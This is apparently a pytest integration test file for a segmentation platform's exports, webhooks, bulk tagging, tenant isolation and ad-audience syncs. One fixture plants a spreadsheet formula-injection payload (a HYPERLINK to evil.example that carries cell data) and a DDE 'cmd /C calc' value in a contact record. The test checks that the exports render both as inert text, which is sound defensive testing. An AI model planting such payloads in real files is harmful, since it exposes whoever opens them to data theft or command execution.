"""Acting on a segment over the admin API of a local stack started in this process: exports fetched through
their presigned URLs and parsed back (CSV, XLSX with openpyxl, hashed audience files), webhook hand-offs
to real HTTP servers on 127.0.0.1, bulk tag changes that segments then see, planned and refused actions,
and tenant isolation.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import threading
import time
import urllib.parse
import urllib.request
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import boto3
import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from google_standin import GoogleStandIn
from graph_standin import GraphStandIn
from stack_client import all_members, evaluate, http, lake_contacts, live, local_stack, ok, wait_for
from tern.audiences.model import Sync
from tern.audiences.repository import SyncRepository
from tern.aws.dynamodb import Table
from tern.exports.matching import Member, google_identifiers, meta_row
from tern.exports.webhook import verify
from tern.parquet import CONTACTS_SCHEMA
from tern.segments.repository import SegmentRepository
from tern_local.generator import generate
from tern_local.stack import REGION, Killed, LocalStack

WARSAW = {
    "name": "Warsaw",
    "where": {"all": [{"kind": "attribute", "field": "city", "op": "eq", "value": "Warszawa"}]},
    "refresh": {"every": 365, "unit": "days"},
}
SECRET = "a-secret-of-at-least-16"
META_TOKEN, META_ACCOUNT = "EAAB-system-user-token-0001", "1234567890"
GOOGLE_CLIENT, GOOGLE_SECRET, GOOGLE_REFRESH, GOOGLE_CUSTOMER = (
    "tern.apps.googleusercontent.com",
    "GOCSPX-secret",
    "1//refresh-0001",
    "1234567890",
)
HOSTILE = '=HYPERLINK("https://evil.example/?d="&A2,"Click me")'


@pytest.fixture(scope="module")
def graph() -> Iterator[GraphStandIn]:
    standin = GraphStandIn(tokens={META_TOKEN}, accounts={META_ACCOUNT})
    yield standin
    standin.stop()


@pytest.fixture(scope="module")
def google() -> Iterator[GoogleStandIn]:
    standin = GoogleStandIn({GOOGLE_CLIENT: GOOGLE_SECRET}, {GOOGLE_REFRESH}, {GOOGLE_CUSTOMER})
    yield standin
    standin.stop()


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory, graph: GraphStandIn, google: GoogleStandIn) -> Iterator[LocalStack]:
    with pytest.MonkeyPatch.context() as env:  # the platforms' stand-ins, read by the functions at their cold start
        env.setenv("TERN_META_GRAPH_URL", graph.url)
        env.setenv("TERN_GOOGLE_DATA_MANAGER_URL", google.url)
        env.setenv("TERN_GOOGLE_TOKEN_URL", google.token_url)
        yield from _stack(tmp_path_factory)


def _stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalStack]:
    lake: Path = tmp_path_factory.mktemp("exports-lake")
    for org, seed in (("acme", 11), ("globex", 12)):
        generate(lake, contacts=600, events_per_contact=10, days=60, org=org, seed=seed)
    hostile = [{"contact_id": "hostile-1", "first_name": HOSTILE, "last_name": "@SUM(1+1)*cmd|' /C calc'!A0", "city": "Hostileville",
                "email": "h@example.com", "phone": "+48 600 100 999", "created_at": dt.datetime(2026, 1, 1)}]  # fmt: skip
    pq.write_table(pa.Table.from_pylist(hostile, schema=CONTACTS_SCHEMA), lake / "contacts" / "org_id=acme" / "hostile.parquet")
    with local_stack(lake) as running:
        yield running


@pytest.fixture(scope="module")
def warsaw(stack: LocalStack) -> dict[str, Any]:
    return live(stack, WARSAW)


@pytest.fixture(scope="module")
def contacts(stack: LocalStack) -> dict[str, dict[str, Any]]:
    return lake_contacts(stack)


def finished_export(stack: LocalStack, segment_id: str, body: dict[str, Any], org: str = "acme") -> dict[str, Any]:
    status, asked = http(stack, "POST", f"/segments/{segment_id}/exports", body, org=org)
    assert status == 202 and asked["status"] in ("queued", "running", "done"), asked
    return dict(
        wait_for(
            lambda: (e := ok(stack, "GET", f"/exports/{asked['id']}", org=org))["status"] in ("done", "failed") and e,
            timeout=60,
            what="the export",
        )
    )


def download(url: str) -> bytes:
    with urllib.request.urlopen(url, timeout=30) as response:
        return bytes(response.read())


def purchases(stack: LocalStack) -> dict[str, tuple[dt.date, float, int]]:
    rows = stack.engine.run(
        "SELECT contact_id, CAST(max(ts) AS DATE), sum(amount), sum(quantity) FROM events "
        "WHERE org_id = 'acme' AND event_type = 'purchase' GROUP BY contact_id"
    ).rows
    return {r[0]: (r[1], r[2], r[3]) for r in rows}


def test_a_hostile_contacts_formula_reaches_the_csv_and_the_workbook_as_inert_text(stack: LocalStack) -> None:
    hostile = live(
        stack,
        {**WARSAW, "name": "Hostile", "where": {"all": [{"kind": "attribute", "field": "city", "op": "eq", "value": "Hostileville"}]}},
    )
    export = finished_export(stack, hostile["id"], {"format": "csv"})
    (row,) = list(csv.DictReader(io.StringIO(download(export["url"]).decode())))
    assert row["first_name"] == "'" + HOSTILE and row["last_name"].startswith("'@SUM") and row["phone"] == "+48 600 100 999"
    workbook = openpyxl.load_workbook(io.BytesIO(download(finished_export(stack, hostile["id"], {"format": "xlsx"})["url"])))
    cell = next(c for c in workbook.active[2] if c.value and "HYPERLINK" in str(c.value))
    assert cell.data_type == "s" and cell.value == HOSTILE  # a string cell: shown, never run


def test_csv_summary_holds_every_member_with_their_purchases(
    stack: LocalStack, warsaw: dict[str, Any], contacts: dict[str, dict[str, Any]]
) -> None:
    export = finished_export(stack, warsaw["id"], {"format": "csv"})
    assert export["status"] == "done" and export["rows"] == warsaw["latest"]["members"] > 0
    assert export["url"] and export["filename"].endswith(".csv")
    rows = list(csv.DictReader(io.StringIO(download(export["url"]).decode())))
    members = all_members(stack, warsaw["id"])
    assert [r["contact_id"] for r in rows] == sorted(members)
    bought = purchases(stack)
    assert any(r["contact_id"] in bought for r in rows)
    for row in rows:
        contact = contacts[row["contact_id"]]
        assert row["email"] == (contact["email"] or "") and row["city"] == "Warszawa" and row["first_name"] == (contact["first_name"] or "")
        date, spent, tickets = bought.get(row["contact_id"], (None, 0.0, 0))
        assert row["last_purchase_date"] == (date.isoformat() if date else "")
        assert float(row["total_spent"]) == pytest.approx(spent) and int(row["tickets"]) == tickets


def test_full_csv_flattens_attributes_and_xlsx_is_a_typed_workbook(
    stack: LocalStack, warsaw: dict[str, Any], contacts: dict[str, dict[str, Any]]
) -> None:
    full = finished_export(stack, warsaw["id"], {"format": "csv", "columns": "full"})
    rows = list(csv.DictReader(io.StringIO(download(full["url"]).decode())))
    header = list(rows[0].keys())
    keys = sorted({k for c in rows for k, _ in (contacts[c["contact_id"]]["attributes"] or [])})
    assert keys and header[-len(keys) :] == [f"attributes.{k}" for k in keys]
    assert "lead_score" in header and "tags" in header and "attributes" not in header
    for row in rows:
        attributes = dict(contacts[row["contact_id"]]["attributes"] or [])
        assert {k: row[f"attributes.{k}"] for k in keys} == {k: attributes.get(k, "") for k in keys}
        assert row["tags"] == "; ".join(contacts[row["contact_id"]]["tags"] or [])

    book = finished_export(stack, warsaw["id"], {"format": "xlsx"})
    assert book["filename"].endswith(".xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(download(book["url"])), read_only=True).active
    table = list(sheet.iter_rows(values_only=True))
    assert list(table[0]) == [
        "contact_id",
        "first_name",
        "last_name",
        "email",
        "phone",
        "city",
        "last_purchase_date",
        "total_spent",
        "tickets",
    ]
    assert [r[0] for r in table[1:]] == sorted(all_members(stack, warsaw["id"]))
    bought = purchases(stack)
    for row in table[1:]:
        date, spent, tickets = bought.get(row[0], (None, 0.0, 0))
        assert row[6] == (dt.datetime(date.year, date.month, date.day) if date else None)  # a real date cell
        assert isinstance(row[7], (int, float)) and row[7] == pytest.approx(spent) and row[8] == tickets  # numbers, not text


def test_audience_file_holds_normalised_sha256_hashes(
    stack: LocalStack, warsaw: dict[str, Any], contacts: dict[str, dict[str, Any]]
) -> None:
    export = finished_export(stack, warsaw["id"], {"format": "audience"})
    lines = download(export["url"]).decode().splitlines()
    assert lines[0] == "email,phone"
    members = sorted(all_members(stack, warsaw["id"]))

    def digest(text: str | None) -> str:
        return hashlib.sha256(text.encode()).hexdigest() if text else ""

    expected = [
        f"{digest((contacts[c]['email'] or '').strip().lower() or None)},{digest((contacts[c]['phone'] or '').removeprefix('+') or None)}"
        for c in members if contacts[c]["email"] or contacts[c]["phone"]
    ]  # fmt: skip
    assert lines[1:] == expected
    assert export["rows"] == len(expected) and export["skipped"] == len(members) - len(expected)


def test_an_expired_export_answers_410(stack: LocalStack, warsaw: dict[str, Any]) -> None:
    export = finished_export(stack, warsaw["id"], {"format": "csv"})
    s3 = boto3.client("s3", endpoint_url=stack.endpoint, region_name=REGION)
    bucket = stack.resolver.names["ResultsBucket"]
    (key,) = [o["Key"] for o in s3.list_objects_v2(Bucket=bucket, Prefix=f"exports/org_id=acme/{export['id']}/")["Contents"]]
    s3.delete_object(Bucket=bucket, Key=key)  # what the 7-day lifecycle rule does
    status, body = http(stack, "GET", f"/exports/{export['id']}")
    assert status == 410 and "expired" in body["message"]


# ------------------------------------------------------------------------------------------- webhooks


class Receiver:
    """A webhook endpoint on 127.0.0.1: answers `failures` errors first, then 200; keeps what it accepted."""

    def __init__(self, failures: int = 0, status: int = 503, secret: str = SECRET):
        self.failures, self.status, self.secret = failures, status, secret
        self.accepted: list[dict[str, Any]] = []
        self.requests = 0
        self.bad_signatures = 0
        receiver = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:  # noqa: N802
                body = self.rfile.read(int(self.headers["Content-Length"]))
                receiver.requests += 1
                if not verify(receiver.secret, self.headers.get("X-Tern-Signature", ""), body, time.time()):  # as a receiver checks it
                    receiver.bad_signatures += 1
                    self.send_response(401)
                elif receiver.failures > 0:
                    receiver.failures -= 1
                    self.send_response(receiver.status)
                else:
                    receiver.accepted.append({**json.loads(body), "key": self.headers["Idempotency-Key"]})
                    self.send_response(200)
                self.end_headers()

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}/hook"

    def close(self) -> None:
        self.server.shutdown()


def destination(stack: LocalStack, receiver: Receiver, org: str = "acme") -> str:
    created = ok(stack, "POST", "/destinations", {"name": "ESP", "url": receiver.url, "secret": SECRET, "batch_size": 40}, org=org)
    assert "secret" not in created
    return str(created["id"])


def test_webhook_batches_are_signed_and_delivered_once_through_failures(stack: LocalStack, warsaw: dict[str, Any]) -> None:
    receiver = Receiver(failures=2)
    try:
        export = finished_export(stack, warsaw["id"], {"format": "webhook", "destination_id": destination(stack, receiver)})
    finally:
        receiver.close()
    members = sorted(all_members(stack, warsaw["id"]))
    delivered = [m["contact_id"] for batch in receiver.accepted for m in batch["members"]]
    assert export["status"] == "done" and receiver.bad_signatures == 0
    assert delivered == members  # every member, exactly once, in order
    assert [b["batch"] for b in receiver.accepted] == list(range(1, len(receiver.accepted) + 1))
    assert len({b["key"] for b in receiver.accepted}) == len(receiver.accepted) == export["batches"] == -(-len(members) // 40)
    assert export["rows"] == len(members) and export["attempts"] == export["batches"] + 2 == receiver.requests
    assert set(receiver.accepted[0]["members"][0]) >= {"contact_id", "email", "total_spent"}


def test_a_destinations_secret_is_rotated_without_losing_a_delivery_and_removed(stack: LocalStack, warsaw: dict[str, Any]) -> None:
    receiver = Receiver()  # holds the first secret
    try:
        hook = destination(stack, receiver)
        new = "the-rotated-secret-0002"
        rotated = ok(stack, "POST", f"/destinations/{hook}/secret", {"secret": new, "overlap_hours": 24})
        assert rotated["previous_secret_until"] and "secret" not in rotated and "secret_name" not in rotated
        # the receiver has not switched yet: the previous secret still signs, and the batches arrive
        assert finished_export(stack, warsaw["id"], {"format": "webhook", "destination_id": hook})["status"] == "done"
        receiver.secret = new  # it switches, at any moment of the overlap
        assert finished_export(stack, warsaw["id"], {"format": "webhook", "destination_id": hook})["status"] == "done"
        assert receiver.bad_signatures == 0
        # a rotation with no overlap: only the newest signs, and a receiver still holding an older secret refuses it
        ok(stack, "POST", f"/destinations/{hook}/secret", {"secret": "the-third-secret-0003", "overlap_hours": 0})
        refused = finished_export(stack, warsaw["id"], {"format": "webhook", "destination_id": hook})
        assert refused["status"] == "failed" and "401" in refused["error"] and receiver.bad_signatures > 0
    finally:
        receiver.close()
    assert http(stack, "POST", f"/destinations/{hook}/secret", {"secret": "x" * 20}, org="globex")[0] == 404
    assert http(stack, "DELETE", f"/destinations/{hook}", org="globex")[0] == 404
    assert ok(stack, "DELETE", f"/destinations/{hook}")["id"] == hook
    assert http(stack, "GET", f"/destinations/{hook}")[0] == 404
    assert http(stack, "POST", f"/segments/{warsaw['id']}/exports", {"format": "webhook", "destination_id": hook})[0] == 404
    names = [
        s["Name"] for s in boto3.client("secretsmanager", endpoint_url=stack.endpoint, region_name=REGION).list_secrets()["SecretList"]
    ]
    assert not [n for n in names if n.endswith(hook)]  # its secret went with it


def test_a_destination_that_keeps_failing_fails_the_job(stack: LocalStack, warsaw: dict[str, Any]) -> None:
    receiver = Receiver(failures=10**6, status=500)
    try:
        export = finished_export(stack, warsaw["id"], {"format": "webhook", "destination_id": destination(stack, receiver)})
    finally:
        receiver.close()
    assert export["status"] == "failed" and "500" in export["error"] and "0 batches" in export["error"]
    assert receiver.accepted == [] and receiver.requests == 5  # retried with backoff, then given up


def test_a_refused_batch_is_not_retried(stack: LocalStack, warsaw: dict[str, Any]) -> None:
    receiver = Receiver(failures=10**6, status=403)
    try:
        export = finished_export(stack, warsaw["id"], {"format": "webhook", "destination_id": destination(stack, receiver)})
    finally:
        receiver.close()
    assert export["status"] == "failed" and "403" in export["error"] and receiver.requests == 1


# --------------------------------------------------------------------------------------- bulk actions


def finished_action(stack: LocalStack, segment_id: str, body: dict[str, Any], org: str = "acme") -> dict[str, Any]:
    status, asked = http(stack, "POST", f"/segments/{segment_id}/actions", body, org=org)
    assert status == 202, asked

    def done() -> Any:
        found = [a for a in ok(stack, "GET", f"/segments/{segment_id}/actions", org=org)["actions"] if a["id"] == asked["id"]]
        return found[0] if found and found[0]["status"] in ("done", "failed") else None

    return dict(wait_for(done, timeout=60, what="the action"))


def tagged(stack: LocalStack, tag: str, org: str = "acme") -> tuple[int, list[str]]:
    """How many contacts a segment on the tag finds, and the first 50 of them."""
    answer = ok(
        stack, "POST", "/segments/preview", {"name": "t", "where": {"all": [{"kind": "tags", "op": "has_any", "values": [tag]}]}}, org=org
    )
    return answer["total"], answer["sample"]


def test_tag_untag_retag(stack: LocalStack, warsaw: dict[str, Any], contacts: dict[str, dict[str, Any]]) -> None:
    members = sorted(all_members(stack, warsaw["id"]))
    # a tag some members already have in the customer's own data
    base = next(t for c in members for t in (contacts[c]["tags"] or []))
    had = [c for c in members if base in (contacts[c]["tags"] or [])]
    action = finished_action(stack, warsaw["id"], {"kind": "tag", "value": base, "action": "add"})
    assert action["status"] == "done" and action["members"] == len(members)
    assert action["already"] == len(had) and action["changed"] == len(members) - len(had)

    added = finished_action(stack, warsaw["id"], {"kind": "tag", "value": "warsaw-export", "action": "add"})
    assert (added["changed"], added["already"]) == (len(members), 0)
    assert tagged(stack, "warsaw-export") == (len(members), members[:50])
    again = finished_action(stack, warsaw["id"], {"kind": "tag", "value": "warsaw-export", "action": "add"})
    assert (again["changed"], again["already"]) == (0, len(members))

    removed = finished_action(stack, warsaw["id"], {"kind": "tag", "value": "warsaw-export", "action": "remove"})
    assert (removed["changed"], removed["already"]) == (len(members), 0)
    assert tagged(stack, "warsaw-export") == (0, [])
    finished_action(stack, warsaw["id"], {"kind": "tag", "value": "warsaw-export", "action": "add"})
    assert tagged(stack, "warsaw-export") == (len(members), members[:50])
    # the customer's other tags are untouched, and exports show the tags as segments see them
    export = finished_export(stack, warsaw["id"], {"format": "csv", "columns": "full"})
    rows = {r["contact_id"]: r for r in csv.DictReader(io.StringIO(download(export["url"]).decode()))}
    for c in members:
        own = list(contacts[c]["tags"] or [])
        tags = rows[c]["tags"].split("; ")
        assert tags[: len(own)] == own and sorted(tags[len(own) :]) == sorted([*([base] if c not in had else []), "warsaw-export"])

    listed = ok(stack, "GET", f"/segments/{warsaw['id']}/actions")["actions"]
    assert [a["value"] for a in listed][-4:] == ["warsaw-export"] * 4 and all(a["status"] == "done" for a in listed)


def test_an_action_asked_for_during_an_evaluation_runs_after_it(stack: LocalStack) -> None:
    segment = live(stack, {**WARSAW, "name": "Warsaw, planned"})
    repository = SegmentRepository(
        Table(boto3.resource("dynamodb", endpoint_url=stack.endpoint, region_name=REGION).Table(stack.resolver.names["TernTable"]))
    )
    stored = repository.get("acme", segment["id"])
    repository.save(stored.model_copy(update={"evaluating_since": stack.clock()}))  # an evaluation is running
    status, planned = http(
        stack, "POST", f"/segments/{segment['id']}/actions", {"kind": "category", "value": "planned-cat", "action": "add"}
    )
    assert status == 202 and planned["status"] == "planned"
    import time

    time.sleep(1)
    assert ok(stack, "GET", f"/segments/{segment['id']}/actions")["actions"][0]["status"] == "planned"  # still waiting
    repository.save(repository.get("acme", segment["id"]).model_copy(update={"evaluating_since": None}))  # it ends...
    evaluated = evaluate(stack, segment["id"])  # ...and the next one's commit starts the waiting action
    done = wait_for(
        lambda: (a := ok(stack, "GET", f"/segments/{segment['id']}/actions")["actions"][0])["status"] == "done" and a,
        timeout=60,
        what="the planned action",
    )
    assert done["evaluation_id"] == evaluated["evaluation_id"] and done["changed"] == evaluated["members"]


def test_archived_segments_refuse_actions(stack: LocalStack) -> None:
    segment = live(stack, {**WARSAW, "name": "Warsaw, archived"})
    ok(stack, "POST", f"/segments/{segment['id']}/archive")
    status, body = http(stack, "POST", f"/segments/{segment['id']}/actions", {"kind": "tag", "value": "x", "action": "add"})
    assert status == 409 and "archived" in body["message"]
    draft = ok(stack, "POST", "/segments", {**WARSAW, "name": "never live"})
    assert http(stack, "POST", f"/segments/{draft['id']}/exports", {"format": "csv"})[0] == 409


def test_bad_requests_name_the_field(stack: LocalStack, warsaw: dict[str, Any]) -> None:
    status, body = http(stack, "POST", f"/segments/{warsaw['id']}/exports", {"format": "pdf"})
    assert status == 400 and body["problems"][0]["path"] == "format"
    status, body = http(stack, "POST", f"/segments/{warsaw['id']}/exports", {"format": "webhook"})
    assert status == 400 and "destination_id" in body["message"]
    status, body = http(stack, "POST", f"/segments/{warsaw['id']}/actions", {"kind": "tag", "value": "x", "action": "toggle"})
    assert status == 400 and body["problems"][0]["path"] == "action"
    status, body = http(stack, "POST", "/destinations", {"name": "x", "url": "ftp://x", "secret": SECRET})
    assert status == 400 and body["problems"][0]["path"] == "url"
    assert http(stack, "POST", "/destinations", {"name": "x", "url": "https://x.example", "secret": "short"})[0] == 400


def test_tenants_never_see_each_others_exports_actions_or_destinations(stack: LocalStack, warsaw: dict[str, Any]) -> None:
    export = finished_export(stack, warsaw["id"], {"format": "csv"})
    assert http(stack, "GET", f"/exports/{export['id']}", org="globex")[0] == 404
    assert http(stack, "POST", f"/segments/{warsaw['id']}/exports", {"format": "csv"}, org="globex")[0] == 404
    assert http(stack, "POST", f"/segments/{warsaw['id']}/actions", {"kind": "tag", "value": "x", "action": "add"}, org="globex")[0] == 404
    assert http(stack, "GET", f"/segments/{warsaw['id']}/actions", org="globex")[0] == 404
    receiver = Receiver()
    try:
        mine = destination(stack, receiver)
        assert mine not in [d["id"] for d in ok(stack, "GET", "/destinations", org="globex")["destinations"]]
        assert mine in [d["id"] for d in ok(stack, "GET", "/destinations")["destinations"]]
        theirs = live(stack, WARSAW, org="globex")
        status, _ = http(stack, "POST", f"/segments/{theirs['id']}/exports", {"format": "webhook", "destination_id": mine}, org="globex")
        assert status == 404
        # acme's bulk tag does not reach globex's contacts, whose ids are the same strings
        finished_action(stack, warsaw["id"], {"kind": "tag", "value": "acme-only", "action": "add"})
        assert tagged(stack, "acme-only")[0] == len(all_members(stack, warsaw["id"]))
        assert tagged(stack, "acme-only", org="globex") == (0, [])
        theirs_export = finished_export(stack, theirs["id"], {"format": "csv"}, org="globex")
        url = urllib.parse.unquote(theirs_export["url"])
        assert "/exports/org_id=globex/" in url and "org_id=acme" not in url
    finally:
        receiver.close()


# ------------------------------------------------------------------------------------ ad audiences (issue 30)

AD_CONSENT = "profiling"  # the generator gives it to about 3 in 10 contacts
OTHER_CONSENT = "email_marketing"  # ...and this one to about 7 in 10


def segment(name: str, *criteria: dict[str, Any]) -> dict[str, Any]:
    return {"name": name, "where": {"all": list(criteria)}, "refresh": {"every": 365, "unit": "days"}}


def consented(stack: LocalStack, segment_id: str, consent: str) -> list[str]:
    """The segment's members with the consent, as a segment over the same lake (with the overlay) counts them."""
    both = live(stack, segment(f"{segment_id} with {consent}", {"kind": "in_segment", "segment_id": segment_id},
                                {"kind": "consents", "op": "has_any", "values": [consent]}))  # fmt: skip
    return sorted(all_members(stack, both["id"]))


def synced(stack: LocalStack, segment_id: str, audience_id: str, sync_id: str | None = None) -> dict[str, Any]:
    """The audience once its last sync (`sync_id`, or any) has ended and it holds no other."""

    def ended() -> Any:
        audience = ok(stack, "GET", f"/segments/{segment_id}/audiences/{audience_id}")
        last = audience["last_sync"]
        if last and (sync_id is None or last["sync_id"] == sync_id) and audience["running"] is None:
            return audience
        return None

    return dict(wait_for(ended, timeout=90, what=f"audience {audience_id}'s sync"))


def meta_rows_of(graph: GraphStandIn, audience: str, op: str) -> list[tuple[str, ...]]:
    """Every row the stand-in took for the audience by `op` (add, remove, replace), repeats kept."""
    rows = []
    for method, path, fields in graph.accepted():
        if method != "POST" or not path.endswith((f"/{audience}/users", f"/{audience}/usersreplace")):
            continue
        kind = "replace" if path.endswith("usersreplace") else "remove" if fields.get("method") == "DELETE" else "add"
        if kind == op:
            rows += [tuple(r) for r in json.loads(fields["payload"])["data"]]
    return rows


def google_taken(google: GoogleStandIn, list_id: str, kind: str) -> list[frozenset[tuple[str, ...]]]:
    """Every member the stand-in took for the list by `kind` (ingest, remove), repeats kept."""
    return [m for r in google.requests.values() if r["kind"] == kind and r["destinations"][0]["productDestinationId"] == list_id
            for m in r["members"]]  # fmt: skip


def test_a_segment_fills_a_meta_audience_and_a_google_list_in_step_with_its_members_and_their_consent(
    stack: LocalStack, graph: GraphStandIn, google: GoogleStandIn, warsaw: dict[str, Any], contacts: dict[str, dict[str, Any]],
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    def member(contact_id: str) -> Member:
        c = contacts[contact_id]
        return Member(c["email"], c["phone"], c["first_name"], c["last_name"], c["city"], c["postal_code"], c["country"])

    def row(contact_id: str) -> tuple[str, ...]:
        return tuple(meta_row(member(contact_id)) or ())

    def identity(contact_id: str) -> frozenset[tuple[str, ...]]:
        return google.member(google_identifiers(member(contact_id)))

    # connecting asks the platform first: a wrong credential is a 400 naming it, and nothing is kept
    meta = {"platform": "meta", "name": "Ads", "ad_account_id": f"act_{META_ACCOUNT}", "access_token": "EAAB-not-a-token"}
    status, refused = http(stack, "POST", "/ad-accounts", meta)
    assert status == 400 and "access_token" in json.dumps(refused) and "access token" in refused["message"], refused
    gads = {"platform": "google", "name": "Google Ads", "customer_id": "123-456-7890", "client_id": GOOGLE_CLIENT,
            "client_secret": GOOGLE_SECRET, "refresh_token": "1//revoked-refresh-token"}  # fmt: skip
    status, refused = http(stack, "POST", "/ad-accounts", gads)
    assert status == 400 and "refresh_token" in json.dumps(refused) and "expired or was revoked" in refused["message"], refused
    assert ok(stack, "GET", "/ad-accounts")["accounts"] == []
    meta_account = ok(stack, "POST", "/ad-accounts", {**meta, "access_token": META_TOKEN})
    google_account = ok(stack, "POST", "/ad-accounts", {**gads, "refresh_token": GOOGLE_REFRESH})
    assert meta_account["platform_name"] == "Tern test account" and google_account["account"] == GOOGLE_CUSTOMER
    assert not {META_TOKEN, GOOGLE_SECRET, GOOGLE_REFRESH} & set(json.dumps(ok(stack, "GET", "/ad-accounts")).split('"'))

    # one segment on both platforms, each audience made and named after it
    fans = live(stack, segment("Ad fans", {"kind": "tags", "op": "has_any", "values": ["ad-fans"]}))
    on_meta = ok(stack, "POST", f"/segments/{fans['id']}/audiences", {"account_id": meta_account["id"], "consent": AD_CONSENT})
    on_google = ok(stack, "POST", f"/segments/{fans['id']}/audiences", {"account_id": google_account["id"], "consent": OTHER_CONSENT})
    audience_id, list_id = on_meta["platform_audience_id"], on_google["platform_audience_id"]
    assert graph.audiences[audience_id]["name"] == google.lists[list_id]["name"] == "Ad fans"

    def both_synced(evaluation: dict[str, Any]) -> tuple[dict[str, Any], dict[str, Any]]:
        sync_id = f"refresh-{evaluation['evaluation_id']}"
        return tuple(synced(stack, fans["id"], a["id"], sync_id)["last_sync"] for a in (on_meta, on_google))  # type: ignore[return-value]

    # members join (the Warsaw contacts tagged): Meta throttles once (80003, its ad account rate limit), Google answers
    # 429 once (its per-minute quota); each member reaches each platform once all the same
    finished_action(stack, warsaw["id"], {"kind": "tag", "value": "ad-fans", "action": "add"})
    graph.fail_next, google.fail_next = [80003], [429]
    first_meta, first_google = both_synced(evaluate(stack, fans["id"]))
    joined, joined_g = consented(stack, fans["id"], AD_CONSENT), consented(stack, fans["id"], OTHER_CONSENT)
    everyone = all_members(stack, fans["id"])
    assert 0 < len(joined) < len(everyone) and 0 < len(joined_g) < len(everyone) and joined != joined_g
    for first, who in ((first_meta, joined), (first_google, joined_g)):  # each audience with its own consent
        assert first["status"] == "done" and (first["added"], first["removed"], first["members"]) == (len(who), 0, len(who)), first
        assert first["without_consent"] == len(everyone) - len(who)
    assert graph.members[audience_id] == {row(c) for c in joined}
    assert sorted(meta_rows_of(graph, audience_id, "add")) == sorted(row(c) for c in joined)
    assert google.members(list_id) == {identity(c) for c in joined_g} and first_google["matched"]
    assert sorted(map(sorted, google_taken(google, list_id, "ingest"))) == sorted(sorted(identity(c)) for c in joined_g)

    # members leave (untagged) and withdraw the consent; the export function's instance dies right after recording a
    # sync's first batch, and Lambda runs the event again: it carries on from there, and each change arrives once
    in_warsaw = {"kind": "in_segment", "segment_id": warsaw["id"]}
    sms = live(stack, segment("Warsaw by text", in_warsaw, {"kind": "consents", "op": "has_any", "values": ["sms_marketing"]}))
    email = live(stack, segment("Warsaw by e-mail", in_warsaw, {"kind": "consents", "op": "has_any", "values": ["email_marketing"]}))
    finished_action(stack, sms["id"], {"kind": "tag", "value": "ad-fans", "action": "remove"})
    finished_action(stack, email["id"], {"kind": "consent", "value": AD_CONSENT, "action": "remove"})
    save, killed = SyncRepository.save, []

    def dying(self: SyncRepository, record: Sync) -> Sync:
        saved = save(self, record)
        if record.sent_batches == 1 and record.kind == "changes" and not killed:
            killed.append(record.key())
            raise Killed("the instance was stopped")
        return saved

    monkeypatch.setattr(SyncRepository, "save", dying)
    second_meta, second_google = both_synced(evaluate(stack, fans["id"]))
    untagged = set(all_members(stack, sms["id"]))
    kept = sorted(set(joined) - untagged - set(all_members(stack, email["id"])))  # untagged; withdrawn
    kept_g = sorted(set(joined_g) - untagged)  # Google's consent was not withdrawn
    gone, gone_g = sorted(set(joined) - set(kept)), sorted(set(joined_g) - set(kept_g))
    assert len(killed) == 1 and gone and gone_g
    for second, left in ((second_meta, gone), (second_google, gone_g)):
        assert second["status"] == "done" and (second["added"], second["removed"]) == (0, len(left)), second
    assert graph.members[audience_id] == {row(c) for c in kept}
    assert sorted(meta_rows_of(graph, audience_id, "remove")) == sorted(row(c) for c in gone)
    assert google.members(list_id) == {identity(c) for c in kept_g}
    assert sorted(map(sorted, google_taken(google, list_id, "remove"))) == sorted(sorted(identity(c)) for c in gone_g)

    # a full replace on demand: each audience made exactly the members (Meta's replace session; Google's removeAll first)
    graph.members[audience_id] |= {tuple("0" * 64 for _ in range(7))}  # someone added on Meta's side
    for audience in (on_meta, on_google):
        status, asked = http(stack, "POST", f"/segments/{fans['id']}/audiences/{audience['id']}/syncs", {"replace": True})
        assert status == 202 and asked["kind"] == "replace", asked
        assert synced(stack, fans["id"], audience["id"], asked["id"])["last_sync"]["status"] == "done"
    assert graph.members[audience_id] == {row(c) for c in kept} and google.members(list_id) == {identity(c) for c in kept_g}
    assert any(r["kind"] == "removeAll" for r in google.requests.values())

    # no member without the consent ever reached either platform
    warsaw_members = all_members(stack, warsaw["id"])
    never = [c for c in warsaw_members if AD_CONSENT not in (contacts[c]["consents"] or [])]
    never_g = [c for c in warsaw_members if OTHER_CONSENT not in (contacts[c]["consents"] or [])]
    assert never and not {row(c) for c in never} & set(
        meta_rows_of(graph, audience_id, "add") + meta_rows_of(graph, audience_id, "replace")
    )
    assert never_g and not {identity(c) for c in never_g} & set(google_taken(google, list_id, "ingest"))

    # new credentials for the same account are checked first; another account's number is refused
    status, refused = http(stack, "PUT", f"/ad-accounts/{meta_account['id']}/credentials", meta)
    assert status == 400 and "access token" in refused["message"], refused
    other = {**meta, "ad_account_id": "act_999", "access_token": META_TOKEN}
    assert http(stack, "PUT", f"/ad-accounts/{meta_account['id']}/credentials", other)[0] == 400
    assert (
        ok(stack, "PUT", f"/ad-accounts/{meta_account['id']}/credentials", {**meta, "access_token": META_TOKEN})["id"] == meta_account["id"]
    )

    # another org sees none of it, and cannot sync it or fill an audience through the accounts
    assert ok(stack, "GET", "/ad-accounts", org="globex")["accounts"] == []
    assert http(stack, "GET", f"/ad-accounts/{meta_account['id']}", org="globex")[0] == 404
    assert http(stack, "GET", f"/segments/{fans['id']}/audiences", org="globex")[0] == 404
    assert http(stack, "POST", f"/segments/{fans['id']}/audiences/{on_meta['id']}/syncs", {}, org="globex")[0] == 404
    theirs = live(stack, segment("Globex fans", {"kind": "tags", "op": "has_any", "values": ["x"]}), org="globex")
    attach = {"account_id": google_account["id"], "consent": AD_CONSENT}
    assert http(stack, "POST", f"/segments/{theirs['id']}/audiences", attach, org="globex")[0] == 404

    # an account goes once no audience syncs through it (the platform's audience stays as it is)
    assert http(stack, "DELETE", f"/ad-accounts/{meta_account['id']}")[0] == 409
